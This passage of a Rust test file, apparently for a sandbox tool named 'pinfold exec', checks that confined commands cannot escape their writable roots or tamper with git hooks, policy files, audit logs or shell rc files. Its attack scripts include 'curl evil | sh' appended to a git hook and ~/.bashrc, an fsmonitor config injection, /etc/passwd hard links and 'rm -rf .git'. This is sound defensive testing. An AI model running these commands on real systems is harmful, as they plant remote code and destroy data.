//! `pinfold exec` keeps writes inside the writable roots: nothing lands outside them (directly,
//! through a planted symlink or a hard link), and inside them the paths that would let a
//! command run code later or change its own policy stay protected: git hooks and config, the
//! git directory itself, pinfold's policy files (existing, new, in subdirectories), the audit
//! ledger, shell rc files, deny-listed paths and globs. Fixture: `support/sandbox.rs`.

use std::fs;
use std::os::unix::fs::{MetadataExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use crate::support::sandbox::*;
use crate::support::*;

// ---------------------------------------------------------------------------------------------
// Writes outside the roots, through symlinks and hard links
// ---------------------------------------------------------------------------------------------

both_users!(
    write_outside_roots,
    reexec_helper_confines_too,
    write_through_planted_symlink,
    write_through_hardlink_to_own_outside_file,
);
only_user!(root: write_through_hardlink_to_etc_passwd);

/// `echo x > /tmp/outside`, `$HOME/x`, `/var/tmp`, (root) `/etc`.
pub(crate) fn write_outside_roots(u: User) {
    let tag = unique("pinfold-escape-");
    let var_tmp = PathBuf::from(format!("/var/tmp/{tag}"));
    let etc = PathBuf::from(format!("/etc/{tag}"));
    let script = |fx: &Fx| {
        fx.cleanup
            .lock()
            .expect("lock")
            .extend([var_tmp.clone(), etc.clone()]);
        let mut body = format!(
            "t 'write a dir outside the roots' 'echo x > {o}/x'\n\
             t 'write $HOME/x' 'echo x > {h}/x'\n\
             t 'write /var/tmp' 'echo x > {v}'\n",
            o = Fx::s(&fx.out),
            h = Fx::s(&fx.home),
            v = Fx::s(&var_tmp)
        );
        if u == User::Root {
            body += &format!("t 'write /etc' 'echo x > {}'\n", Fx::s(&etc));
        }
        fx.sh_script("write_outside", &body)
    };
    let changes = |fx: &Fx| {
        [
            fx.out.join("x"),
            fx.home.join("x"),
            var_tmp.clone(),
            etc.clone(),
        ]
        .iter()
        .filter_map(|p| exists_change(p))
        .collect::<Vec<_>>()
    };
    // Each fixture run removes what its control created before the attack run looks.
    let c = Fx::new(u, "write_outside_roots");
    let r = c.control(&script(&c));
    let ch = changes(&c);
    c.assert_control(&r, &ch, true);
    for p in [&var_tmp, &etc] {
        let _ = fs::remove_file(p);
    }
    drop(c);
    let a = Fx::new(u, "write_outside_roots");
    let r = a.exec(&[], &script(&a));
    a.assert_refused(&r, &changes(&a));
}

/// A symlink planted in the project (before start, and from inside) pointing to a
/// file outside; writing through it must not create or change the target.
pub(crate) fn write_through_planted_symlink(u: User) {
    attack_case(
        u,
        "write_through_planted_symlink",
        &|fx| {
            symlink(fx.out.join("pre-target"), fx.proj.join("pre-link")).expect("symlink");
            symlink(&fx.out, fx.proj.join("pre-dirlink")).expect("symlink");
            fx.own();
        },
        &|fx| {
            fx.sh_script(
                "symlink",
                &format!(
                    "t 'write through a link planted before start' 'echo x > pre-link'\n\
                     t 'write through a dir link planted before start' 'echo x > pre-dirlink/via-dir'\n\
                     t 'plant a link inside and write' 'ln -s {o}/in-target in-link && echo x > in-link'\n",
                    o = Fx::s(&fx.out)
                ),
            )
        },
        &|fx| {
            ["pre-target", "via-dir", "in-target"]
                .iter()
                .filter_map(|n| exists_change(&fx.out.join(n)))
                .collect()
        },
    );
}

/// Hard-link a file the user owns outside the roots into the project, write through.
pub(crate) fn write_through_hardlink_to_own_outside_file(u: User) {
    attack_case(
        u,
        "write_through_hardlink_to_own_outside_file",
        &|fx| {
            fx.put(&fx.out.join("mine.txt"), "original\n");
            fx.own();
        },
        &|fx| {
            fx.sh_script(
                "hardlink_own",
                &format!(
                    "t 'hard link an outside file and write' 'ln {o}/mine.txt h && echo x >> h'\n",
                    o = Fx::s(&fx.out)
                ),
            )
        },
        &|fx| {
            changed_file(&fx.out.join("mine.txt"), &Some(b"original\n".to_vec()))
                .into_iter()
                .collect()
        },
    );
}

/// A hard link to `/etc/passwd` in the project. Root only: uid 65534 cannot hard-link
/// `/etc/passwd` on the host itself (`fs.protected_hardlinks = 1`), so its control could never
/// succeed; `write_through_hardlink_to_own_outside_file` covers the unprivileged case.
/// Never writes: opening the link for writing is the escape (the control must not damage
/// `/etc/passwd`).
fn write_through_hardlink_to_etc_passwd(u: User) {
    let before = fs::read("/etc/passwd").expect("read /etc/passwd");
    let ino = fs::metadata("/etc/passwd").expect("stat").ino();
    let script = |fx: &Fx| {
        fx.py_script(
            "hardlink_passwd",
            "try:\n    os.link('/etc/passwd', 'h')\n    fd = os.open('h', os.O_WRONLY | os.O_APPEND)\n    os.close(fd)\n    verdict('hard link /etc/passwd and open it for writing', True, 'opened')\nexcept OSError as e:\n    verdict('hard link /etc/passwd and open it for writing', False, ename(e.errno))\nfinally:\n    try: os.unlink('h')\n    except OSError: pass\n",
        )
    };
    let c = Fx::new(u, "write_through_hardlink_to_etc_passwd");
    let r = c.control(&script(&c));
    let ch = if r.escaped().is_empty() {
        vec![]
    } else {
        vec!["a writable hard link to /etc/passwd existed".to_string()]
    };
    c.assert_control(&r, &ch, true);

    let a = Fx::new(u, "write_through_hardlink_to_etc_passwd");
    let r = a.exec(&[], &script(&a));
    let mut ch = Vec::new();
    if fs::read("/etc/passwd").ok().as_ref() != Some(&before) {
        ch.push("/etc/passwd CHANGED".to_string());
    }
    if fs::metadata(a.proj.join("h")).is_ok_and(|m| m.ino() == ino) {
        ch.push("a hard link to /etc/passwd remains in the project".to_string());
        let _ = fs::remove_file(a.proj.join("h"));
    }
    a.assert_refused(&r, &ch);
}

// ---------------------------------------------------------------------------------------------
// Protected paths inside writable roots
// ---------------------------------------------------------------------------------------------

both_users!(
    git_dir_replaced_by_symlink_before_start,
    git_config_write,
    git_hooks_existing_write,
    git_hooks_new_file,
    pinfold_config_write,
    pinfold_config_new_default_preset,
    pinfold_config_new_under_working_dir,
    planted_policy_file_in_a_subdirectory,
    rewritten_policy_file_in_a_subdirectory,
    placeholders_outlive_a_concurrent_run,
    many_runs_start_at_once,
    audit_ledger_out_of_reach,
    shell_rc_files_default_preset,
    deny_path_created_after_start,
    deny_glob_write,
    git_dir_rename,
    git_dir_delete,
    git_init_refused,
    worktree_common_git_dir_protected,
    planted_git_file_names_no_writable_root,
    planted_commondir_names_no_writable_root,
);

fn git_protected(git: &Path) -> Snap {
    Snap::of(&[
        git.join("config"),
        git.join("hooks/pre-push"),
        git.join("hooks/pre-commit"),
    ])
}

/// `.git -> decoy/` (inside the project) before the sandbox starts. Writing
/// `.git/hooks/*` or `.git/config` (through either name) must be refused, or pinfold must
/// refuse to start with a clear error (exit 125 and a message).
pub(crate) fn git_dir_replaced_by_symlink_before_start(u: User) {
    let setup = |fx: &mut Fx| {
        fs::rename(fx.proj.join(".git"), fx.proj.join("decoy")).expect("rename .git");
        symlink("decoy", fx.proj.join(".git")).expect("symlink .git");
        fx.own();
    };
    let script = |fx: &Fx| {
        fx.sh_script(
            "git_decoy",
            "t 'new hook via .git' 'printf \"#!/bin/sh\\nid\\n\" > .git/hooks/pre-commit'\n\
             t 'existing hook via .git' 'echo id >> .git/hooks/pre-push'\n\
             t 'config via .git' 'echo \"[core]\" >> .git/config'\n\
             t 'config via decoy' 'echo \"[alias]\" >> decoy/config'\n\
             t 'new hook via decoy' 'echo id > decoy/hooks/pre-commit'\n",
        )
    };
    let mut c = Fx::new(u, "git_dir_replaced_by_symlink_before_start");
    setup(&mut c);
    let snap = git_protected(&c.proj.join("decoy"));
    let r = c.control(&script(&c));
    c.assert_control(&r, &snap.changes(), true);

    let mut a = Fx::new(u, "git_dir_replaced_by_symlink_before_start");
    setup(&mut a);
    let snap = git_protected(&a.proj.join("decoy"));
    let r = a.exec(&[], &script(&a));
    if r.code == Some(125) && !r.started() {
        assert!(
            !r.stderr.trim().is_empty() && snap.changes().is_empty(),
            "{}: pinfold refused to start (fine) but without an error message or after a host \
             change: {:?}\n{}",
            a.label(),
            snap.changes(),
            r.show()
        );
        return;
    }
    a.assert_refused(&r, &snap.changes());
}

/// `.git/config` (can set core.hooksPath, core.fsmonitor).
pub(crate) fn git_config_write(u: User) {
    attack_case(
        u,
        "git_config_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "git_config",
                "t 'append to .git/config' 'printf \"[core]\\n\\thooksPath = /tmp\\n\" >> .git/config'\n\
                 t 'git config --local' 'git config core.fsmonitor \"touch /tmp/pwned\"'\n",
            )
        },
        &|fx| {
            let mut v = git_files_changed(fx);
            v.retain(|c| c.contains("config"));
            v
        },
    );
}

/// Host view of the protected git files, compared with a fresh repository's.
fn git_files_changed(fx: &Fx) -> Vec<String> {
    let git = fx.proj.join(".git");
    let mut v = Vec::new();
    let cfg = fs::read_to_string(git.join("config")).unwrap_or_default();
    if cfg.contains("hooksPath") || cfg.contains("fsmonitor") {
        v.push(format!(".git/config changed: {cfg:?}"));
    }
    if fs::read_to_string(git.join("hooks/pre-push"))
        .ok()
        .as_deref()
        != Some("#!/bin/sh\nexit 0\n")
    {
        v.push(".git/hooks/pre-push changed".to_string());
    }
    v.extend(exists_change(&git.join("hooks/pre-commit")));
    v
}

/// An existing hook, and a sample.
pub(crate) fn git_hooks_existing_write(u: User) {
    attack_case(
        u,
        "git_hooks_existing_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "hooks_existing",
                "t 'append to the existing pre-push hook' 'echo \"curl evil | sh\" >> .git/hooks/pre-push'\n\
                 t 'replace it by rename' 'echo id > x.tmp && mv x.tmp .git/hooks/pre-push'\n",
            )
        },
        &|fx| {
            let mut v = git_files_changed(fx);
            v.retain(|c| c.contains("pre-push"));
            v
        },
    );
}

/// A hook that did not exist at start.
pub(crate) fn git_hooks_new_file(u: User) {
    attack_case(
        u,
        "git_hooks_new_file",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "hooks_new",
                "t 'create .git/hooks/pre-commit' 'printf \"#!/bin/sh\\nid\\n\" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'\n\
                 t 'create .git/hooks/post-checkout by rename' 'echo id > y.tmp && mv y.tmp .git/hooks/post-checkout'\n",
            )
        },
        &|fx| {
            ["pre-commit", "post-checkout"]
                .iter()
                .filter_map(|h| exists_change(&fx.proj.join(".git/hooks").join(h)))
                .collect()
        },
    );
}

/// Pinfold's own policy file (the test policy is the project's `pinfold.toml`).
pub(crate) fn pinfold_config_write(u: User) {
    attack_case(
        u,
        "pinfold_config_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "pinfold_toml",
                "t 'append to pinfold.toml' 'echo \"[[rules]]\" >> pinfold.toml'\n\
                 t 'replace pinfold.toml by rename' 'echo x > p.tmp && mv p.tmp pinfold.toml'\n\
                 t 'delete pinfold.toml' 'rm pinfold.toml'\n",
            )
        },
        &|fx| {
            changed_file(
                &fx.proj.join("pinfold.toml"),
                &Some(TEST_POLICY.as_bytes().to_vec()),
            )
            .into_iter()
            .collect()
        },
    );
}

/// Under the embedded default preset, pinfold's config files that do not exist yet.
pub(crate) fn pinfold_config_new_default_preset(u: User) {
    let names = POLICY_NAMES;
    attack_case(
        u,
        "pinfold_config_new_default_preset",
        &|fx| fx.use_default_preset(),
        &|fx| {
            let body: String = names
                .iter()
                .map(|n| format!("t 'create {n}' 'echo \"[defaults]\" > {n}'\n"))
                .collect();
            fx.sh_script("pinfold_new", &body)
        },
        &|fx| {
            names
                .iter()
                .filter_map(|n| exists_change(&fx.proj.join(n)))
                .collect()
        },
    );
}

/// The gap placeholders cannot close: a command run at the project root plants
/// `sub/pinfold.toml` (allow everything), where no placeholder stands. The planted file must
/// not be read by a later `pinfold check` whose working directory is `sub/` (it is refused, with
/// `pinfold trust` as the way on), and the command cannot approve it itself: `pinfold trust`
/// from inside fails and the list of approved files stays as it was. The control: the same file
/// written on the host and approved by its author is read; and once a person approves the
/// planted one, it is read too.
pub(crate) fn planted_policy_file_in_a_subdirectory(u: User) {
    let mut fx = Fx::new(u, "planted_policy_file_in_a_subdirectory");
    fs::create_dir_all(fx.proj.join("sub")).unwrap();
    fx.own();
    let planted = "[defaults]\naction = \"allow\"\n";
    let sub_policy = fx.proj.join("sub/pinfold.toml");
    let check_in_sub = |fx: &Fx| -> Run {
        let argv = vec![pinfold_bin(), "check".into(), "--cwd".into(), Fx::s(&fx.proj.join("sub")), "--".into(), "frobnicate --everything".into()];
        run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT)
    };
    // Control: written on the host and approved by its author, the file is policy. (Other
    // bytes than the plant's: an approval is for exact content at a path, and the same bytes
    // planted later at the same path would be what the person approved.)
    fx.put(&sub_policy, &format!("{planted}# the author's\n"));
    fx.own();
    fx.approve(&sub_policy);
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(0), "{}: the host's own sub/pinfold.toml must be read\n{}", fx.label(), r.show());
    fs::remove_file(&sub_policy).unwrap();
    // The attack: the same file, planted by a sandboxed command, which also tries to approve it.
    let state = fx.home.join(".local/state/pinfold");
    let trusted = state.join("trusted");
    let before = fs::read(&trusted).ok();
    let argv = fx.sh_script(
        "plant",
        &format!(
            "printf '{}' > {}; echo planted=$?\n{} trust {} && echo ESCAPED: approved from inside || echo refused: trust\n",
            planted.replace('\n', "\\n").replace('"', "\\\""),
            Fx::s(&sub_policy),
            pinfold_bin(),
            Fx::s(&sub_policy)
        ),
    );
    let r = fx.exec(&[], &argv);
    assert!(r.stdout.contains("planted=0"), "{}: the plant itself should succeed (the gap this case is about)\n{}", fx.label(), r.show());
    assert!(r.escaped().is_empty(), "{}: {:?}\n{}", fx.label(), r.escaped(), r.show());
    assert_eq!(fs::read(&trusted).ok(), before, "{}: the list of approved files changed from inside", fx.label());
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(2), "{}: a planted policy file was read\n{}", fx.label(), r.show());
    assert!(r.stderr.contains("pinfold trust"), "{}: the refusal should say how to approve\n{}", fx.label(), r.show());
    assert!(r.stderr.contains("while sandboxed commands could write"), "{}: the refusal should say a sandboxed command could have written it\n{}", fx.label(), r.show());
    // A person approves it (outside any sandbox): now it is read.
    let argv = vec![pinfold_bin(), "trust".into(), Fx::s(&sub_policy)];
    let t = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
    assert_eq!(t.code, Some(0), "{}\n{}", fx.label(), t.show());
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(0), "{}: an approved file must be read\n{}", fx.label(), r.show());
    fx.config = None;
}

/// The same gap for a nested policy file that exists: a person's `sub/pinfold.toml` (which
/// asks for everything) is not protected while a command runs at the root, so the command can
/// rewrite it to allow everything. The rewritten file must not be read by a later check in
/// `sub/`; the person's own later edit, outside any run, needs approving again, then is read.
fn rewritten_policy_file_in_a_subdirectory(u: User) {
    let mut fx = Fx::new(u, "rewritten_policy_file_in_a_subdirectory");
    let sub_policy = fx.proj.join("sub/pinfold.toml");
    fx.put(&sub_policy, "[defaults]\naction = \"ask\"\n");
    fx.own();
    fx.approve(&sub_policy);
    let check_in_sub = |fx: &Fx| -> Run {
        let argv = vec![pinfold_bin(), "check".into(), "--cwd".into(), Fx::s(&fx.proj.join("sub")), "--".into(), "frobnicate --everything".into()];
        run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT)
    };
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(10), "{}: the person's policy asks\n{}", fx.label(), r.show());
    let argv = fx.sh_script(
        "rewrite",
        &format!("sed -i 's/ask/allow/' {}; echo rewritten=$?\n", Fx::s(&sub_policy)),
    );
    let r = fx.exec(&[], &argv);
    assert!(r.stdout.contains("rewritten=0"), "{}: the rewrite itself should succeed (the gap this case is about)\n{}", fx.label(), r.show());
    assert!(fs::read_to_string(&sub_policy).unwrap().contains("allow"), "{}: the file was not rewritten", fx.label());
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(2), "{}: a policy file rewritten from inside was read\n{}", fx.label(), r.show());
    // Outside any run (and more than a second after it, so not in its interval), the person
    // edits the file themselves: any change needs approving again (as direnv's `allow`),
    // and the refusal no longer blames a sandboxed command; once approved, it is read.
    std::thread::sleep(Duration::from_millis(1100));
    fx.put(&sub_policy, "[defaults]\naction = \"deny\"\n");
    fx.own();
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(2), "{}: a changed policy file was read unapproved\n{}", fx.label(), r.show());
    assert!(r.stderr.contains("changed since you approved it"), "{}\n{}", fx.label(), r.show());
    fx.approve(&sub_policy);
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(11), "{}: the person's approved edit must be read\n{}", fx.label(), r.show());
    fx.config = None;
}

/// Every name policy discovery reads (`find_one` in crates/policy/src/config/load.rs).
const POLICY_NAMES: [&str; 8] = [
    "pinfold.toml",
    "pinfold.yaml",
    "pinfold.yml",
    "pinfold.json",
    "pinfold.local.toml",
    "pinfold.local.yaml",
    "pinfold.local.yml",
    "pinfold.local.json",
];

/// From a working directory below the project root: a policy file made in it
/// would be the nearest one for the commands that follow there (and a `pinfold.local.*` beside
/// the root's policy would add to it). Whatever the preset says, no name discovery reads may be
/// created, in the root or in the working directory.
pub(crate) fn pinfold_config_new_under_working_dir(u: User) {
    let setup = |fx: &mut Fx| {
        fx.use_default_preset();
        fs::create_dir_all(fx.proj.join("sub")).unwrap();
        fx.own();
    };
    let script = |fx: &Fx| {
        let mut body = String::new();
        for dir in [fx.proj.clone(), fx.proj.join("sub")] {
            for n in POLICY_NAMES {
                let p = Fx::s(&dir.join(n));
                body.push_str(&format!("t 'create {p}' 'echo \"[defaults]\" > {p}'\n"));
            }
        }
        fx.sh_script("pinfold_new_sub", &body)
    };
    let changes = |fx: &Fx| -> Vec<String> {
        [fx.proj.clone(), fx.proj.join("sub")]
            .iter()
            .flat_map(|d| POLICY_NAMES.iter().map(move |n| d.join(n)))
            .filter_map(|p| exists_change(&p))
            .collect()
    };
    let mut c = Fx::new(u, "pinfold_config_new_under_working_dir");
    setup(&mut c);
    let argv = script(&c);
    let r = c.control(&argv);
    c.assert_control(&r, &changes(&c), true);

    let mut a = Fx::new(u, "pinfold_config_new_under_working_dir");
    setup(&mut a);
    let argv = script(&a);
    let sub = Fx::s(&a.proj.join("sub"));
    let r = a.exec(&["--cwd", &sub], &argv);
    a.assert_refused(&r, &changes(&a));
}

/// Two runs at once in one project (an agent's parallel tool calls): run A
/// creates the placeholders for the missing policy files; run B, started while A runs, relies
/// on the same ones. A ends first. B's command then tries to create the policy files: A must
/// not have removed what B's protection stands on (on unlink the kernel detaches a mount in
/// other namespaces). Meanwhile a `pinfold check` in the project must not mistake the empty
/// placeholders for policy, and after both runs no placeholder is left.
fn placeholders_outlive_a_concurrent_run(u: User) {
    let names = ["pinfold.toml", "pinfold.local.toml", "pinfold.yaml", "pinfold.json"];
    let body: String = std::iter::once("sleep 2\n".to_string())
        .chain(names.iter().map(|n| format!("t 'create {n} after the other run ended' 'echo \"[defaults]\" > {n}'\n")))
        .collect();
    let changes = |fx: &Fx| -> Vec<String> { names.iter().filter_map(|n| exists_change(&fx.proj.join(n))).collect() };

    let mut c = Fx::new(u, "placeholders_outlive_a_concurrent_run");
    c.use_default_preset();
    let argv = c.sh_script("concurrent", &body);
    let r = c.control(&argv);
    c.assert_control(&r, &changes(&c), true);

    let mut a = Fx::new(u, "placeholders_outlive_a_concurrent_run");
    a.use_default_preset();
    let argv = a.sh_script("concurrent", &body);
    // Run A: short, started first.
    let first = a.exec_argv(&[], &["sleep".into(), "0.7".into()]);
    let mut first = a.cmd(&first);
    first.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped());
    let mut first = first.spawn().expect("spawn run A");
    let deadline = Instant::now() + Duration::from_secs(10);
    while !a.proj.join("pinfold.toml").exists() {
        assert!(Instant::now() < deadline, "{}: run A never put its placeholders in place", a.label());
        std::thread::sleep(Duration::from_millis(10));
    }
    // Run B, and a check while both run.
    let b = std::thread::scope(|scope| {
        let b = scope.spawn(|| a.exec(&[], &argv));
        std::thread::sleep(Duration::from_millis(300));
        let check = run_cmd(a.cmd(&[pinfold_bin(), "check".into(), "--".into(), "ls".into()]), "pinfold check -- ls".into(), None, TIMEOUT);
        assert_eq!(check.code, Some(0), "{}: a check beside running sandboxes failed\n{}", a.label(), check.show());
        b.join().expect("run B")
    });
    let status = first.wait().expect("wait for run A");
    assert!(status.success(), "{}: run A failed: {status}", a.label());
    a.assert_refused(&b, &changes(&a));
    let left: Vec<&str> = names.iter().copied().filter(|n| a.proj.join(n).symlink_metadata().is_ok()).collect();
    assert!(left.is_empty(), "{}: placeholders left behind: {left:?}", a.label());
}

/// The audit ledger and its signing key, kept inside the project (a writable root) on
/// purpose: the command can neither read them nor change, truncate, delete or move them, and
/// the chain verifies afterwards (with pinfold's own exec_start and exec_end in it).
pub(crate) fn audit_ledger_out_of_reach(u: User) {
    let setup = |fx: &mut Fx| {
        let state = fx.proj.join("audit");
        fx.env.insert("PINFOLD_STATE_DIR".into(), Fx::s(&state));
        let argv = [pinfold_bin(), "audit".into(), "checkpoint".into()];
        let r = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
        assert_eq!(r.code, Some(0), "{}: cannot make a ledger\n{}", fx.label(), r.show());
    };
    attack_case(
        u,
        "audit_ledger_out_of_reach",
        &setup,
        &|fx| {
            fx.sh_script(
                "ledger",
                "t 'read the ledger' 'grep -q hash audit/ledger.jsonl'\n\
                 t 'read the signing key' 'grep -q . audit/ledger.key'\n\
                 t 'append to the ledger' 'echo x >> audit/ledger.jsonl'\n\
                 t 'truncate the ledger' 'true > audit/ledger.jsonl'\n\
                 t 'delete the checkpoints' 'rm audit/ledger.checkpoints'\n\
                 t 'move the ledger away' 'mv audit audit.gone'\n",
            )
        },
        &|fx| {
            let mut v: Vec<String> = exists_change(&fx.proj.join("audit.gone")).into_iter().collect();
            let argv = [pinfold_bin(), "audit".into(), "verify".into()];
            let r = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
            if r.code != Some(0) {
                v.push(format!("audit verify: exit {:?}: {}", r.code, r.all().trim()));
            }
            v
        },
    );
}

/// Shell rc files, under the default preset, in the worst place: HOME is the project
/// (the agent was started in `~`), so HOME is a writable root and only the deny list protects
/// `~/.bashrc` (existing) and `~/.profile`, `~/.zshrc` (new).
pub(crate) fn shell_rc_files_default_preset(u: User) {
    let setup = |fx: &mut Fx| {
        fx.use_default_preset();
        fx.cwd = fx.home.clone();
    };
    attack_case(
        u,
        "shell_rc_files_default_preset",
        &setup,
        &|fx| {
            fx.sh_script(
                "rc",
                "t 'append to ~/.bashrc' 'echo \"curl evil|sh\" >> ~/.bashrc'\n\
                 t 'create ~/.profile' 'echo id > ~/.profile'\n\
                 t 'create ~/.zshrc' 'echo id > ~/.zshrc'\n\
                 t 'create ~/.bash_profile' 'echo id > ~/.bash_profile'\n",
            )
        },
        &|fx| {
            let mut v: Vec<String> = changed_file(
                &fx.home.join(".bashrc"),
                &Some(b"# original bashrc\n".to_vec()),
            )
            .into_iter()
            .collect();
            v.extend(
                [".profile", ".zshrc", ".bash_profile"]
                    .iter()
                    .filter_map(|n| exists_change(&fx.home.join(n))),
            );
            v
        },
    );
}

/// `.env` and `denied-dir` are in the deny list but do not exist at start. After the
/// run they must not exist on the host (placeholders removed).
pub(crate) fn deny_path_created_after_start(u: User) {
    attack_case(
        u,
        "deny_path_created_after_start",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "deny_new",
                "t 'create .env' 'echo TOKEN=x > .env'\n\
                 t 'create .env by rename' 'echo TOKEN=x > e.tmp && mv e.tmp .env'\n\
                 t 'create a file in denied-dir' 'mkdir -p denied-dir && echo x > denied-dir/f'\n",
            )
        },
        &|fx| {
            let mut v: Vec<String> = exists_change(&fx.proj.join("denied-dir/f"))
                .into_iter()
                .collect();
            if fs::read(fx.proj.join(".env")).is_ok_and(|c| !c.is_empty()) {
                v.push(".env has content".to_string());
            }
            if v.is_empty() {
                // The placeholder must be gone after exit ("no host change").
                v.extend(
                    exists_change(&fx.proj.join(".env"))
                        .map(|c| format!("{c} after exit (placeholder left behind?)")),
                );
            }
            v
        },
    );
}

/// Deny globs: `keys/*.pem` matches `keys/server.pem`, which exists at start.
pub(crate) fn deny_glob_write(u: User) {
    attack_case(
        u,
        "deny_glob_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "deny_glob",
                "t 'write keys/server.pem (deny glob)' 'echo x > keys/server.pem'\n\
                 t 'delete keys/server.pem' 'rm keys/server.pem'\n",
            )
        },
        &|fx| {
            changed_file(
                &fx.proj.join("keys/server.pem"),
                &Some(b"original pem\n".to_vec()),
            )
            .into_iter()
            .collect()
        },
    );
}

/// `mv .git .g` — refused, history intact.
pub(crate) fn git_dir_rename(u: User) {
    attack_case(
        u,
        "git_dir_rename",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "git_mv",
                "t 'mv .git/hooks away' 'mv .git/hooks hooks.bak'\nt 'mv .git .g' 'mv .git .g'\n",
            )
        },
        &|fx| {
            let mut v = Vec::new();
            if !fx.proj.join(".git/HEAD").exists() {
                v.push(".git/HEAD is gone (the .git directory was moved)".to_string());
            }
            if !fx.proj.join(".git/hooks/pre-push").exists() {
                v.push(".git/hooks was moved".to_string());
            }
            if let Err(e) = history(fx, &fx.proj) {
                v.push(format!("history unreadable: {e}"));
            }
            v
        },
    );
}

/// `rm -rf .git` — refused, history intact. Note: this demands more than read-only
/// hooks/config: `.git/objects` is writable (for `git commit`), so `rm -rf` could delete the
/// objects before failing on hooks. The spec says "history intact"; this test holds it to that.
pub(crate) fn git_dir_delete(u: User) {
    attack_case(
        u,
        "git_dir_delete",
        &|_| {},
        &|fx| fx.sh_script("git_rm", "t 'rm -rf .git' 'rm -rf .git'\n"),
        &|fx| {
            let mut v = Vec::new();
            if !fx.proj.join(".git").exists() {
                v.push(".git is gone".to_string());
            }
            for f in ["config", "hooks/pre-push", "HEAD"] {
                if !fx.proj.join(".git").join(f).exists() {
                    v.push(format!(".git/{f} is gone"));
                }
            }
            match history(fx, &fx.proj) {
                Ok(h) if h.contains("initial") => {}
                Ok(h) => v.push(format!("history changed: {h:?}")),
                Err(e) => v.push(format!("history destroyed: {e}")),
            }
            v
        },
    );
}

/// A `.git` *file* is project content a sandboxed command can
/// write: were `pinfold exec` to make what its `gitdir:` names writable for the next command,
/// `gitdir: /` would open the whole file system. A planted one (here naming a directory outside
/// the project that looks like a git directory) must name nothing.
fn make_planted_git_file(fx: &mut Fx) {
    let proj = fx.base.join("planted");
    fs::create_dir_all(&proj).expect("mkdir");
    fx.put(&fx.out.join("HEAD"), "ref: refs/heads/main\n");
    fx.put(&proj.join(".git"), &format!("gitdir: {}\n", fx.out.display()));
    fx.put(&proj.join("pinfold.toml"), TEST_POLICY);
    fx.config = Some(proj.join("pinfold.toml"));
    fx.cwd = proj;
    fx.own();
}

pub(crate) fn planted_git_file_names_no_writable_root(u: User) {
    attack_case(
        u,
        "planted_git_file_names_no_writable_root",
        &make_planted_git_file,
        &|fx| fx.sh_script("planted_gitdir", &format!("t 'write where gitdir: points' 'echo x > {}/planted'\n", Fx::s(&fx.out))),
        &|fx| exists_change(&fx.out.join("planted")).into_iter().collect(),
    );
}

/// The same through `commondir`: a git directory planted inside the project (with the
/// back-link git writes) whose `commondir` names a directory outside.
fn make_planted_commondir(fx: &mut Fx) {
    let proj = fx.base.join("planted");
    let evil = proj.join(".evil");
    fs::create_dir_all(&evil).expect("mkdir");
    fx.put(&evil.join("HEAD"), "ref: refs/heads/main\n");
    fx.put(&evil.join("gitdir"), &format!("{}\n", proj.join(".git").display()));
    fx.put(&evil.join("commondir"), &format!("{}\n", fx.out.display()));
    fx.put(&fx.out.join("HEAD"), "ref: refs/heads/main\n");
    fx.put(&proj.join(".git"), "gitdir: .evil\n");
    fx.put(&proj.join("pinfold.toml"), TEST_POLICY);
    fx.config = Some(proj.join("pinfold.toml"));
    fx.cwd = proj;
    fx.own();
}

pub(crate) fn planted_commondir_names_no_writable_root(u: User) {
    attack_case(
        u,
        "planted_commondir_names_no_writable_root",
        &make_planted_commondir,
        &|fx| fx.sh_script("planted_commondir", &format!("t 'write where commondir points' 'echo x > {}/planted'\n", Fx::s(&fx.out))),
        &|fx| exists_change(&fx.out.join("planted")).into_iter().collect(),
    );
}

pub(crate) fn worktree_common_git_dir_protected(u: User) {
    attack_case(
        u,
        "worktree_common_git_dir_protected",
        &make_worktree,
        &|fx| {
            let g = Fx::s(&fx.out.join("main/.git"));
            fx.sh_script(
                "wt_protected",
                &format!(
                    "t 'common dir config' 'echo \"# pinfold-attack\" >> {g}/config'\n\
                     t 'common dir new hook' 'echo id > {g}/hooks/pre-commit'\n\
                     t 'common dir existing hook' 'echo id >> {g}/hooks/pre-push'\n"
                ),
            )
        },
        &|fx| {
            let g = fx.out.join("main/.git");
            let mut v: Vec<String> = exists_change(&g.join("hooks/pre-commit"))
                .into_iter()
                .collect();
            if fs::read_to_string(g.join("hooks/pre-push")).ok().as_deref()
                != Some("#!/bin/sh\nexit 0\n")
            {
                v.push("main/.git/hooks/pre-push changed".to_string());
            }
            if fs::read_to_string(g.join("config"))
                .unwrap_or_default()
                .contains("pinfold-attack")
            {
                v.push("main/.git/config changed".to_string());
            }
            v
        },
    );
}

/// The sandbox starts its helper by fork when pinfold runs one thread, and by re-executing
/// itself otherwise (a multi-threaded parent). `PINFOLD_SANDBOX_REEXEC=1` forces the second
/// path: the same attack must be refused there too, and statuses pass through.
fn reexec_helper_confines_too(u: User) {
    let c = Fx::new(u, "reexec_helper_confines_too");
    let argv = c.sh_script("reexec", &format!("t 'write outside' 'echo x > {}/x'\nexit 7\n", Fx::s(&c.out)));
    let r = c.control(&argv);
    c.assert_control(&r, &exists_change(&c.out.join("x")).into_iter().collect::<Vec<_>>(), true);
    drop(c);
    let mut a = Fx::new(u, "reexec_helper_confines_too");
    a.env.insert("PINFOLD_SANDBOX_REEXEC".into(), "1".into());
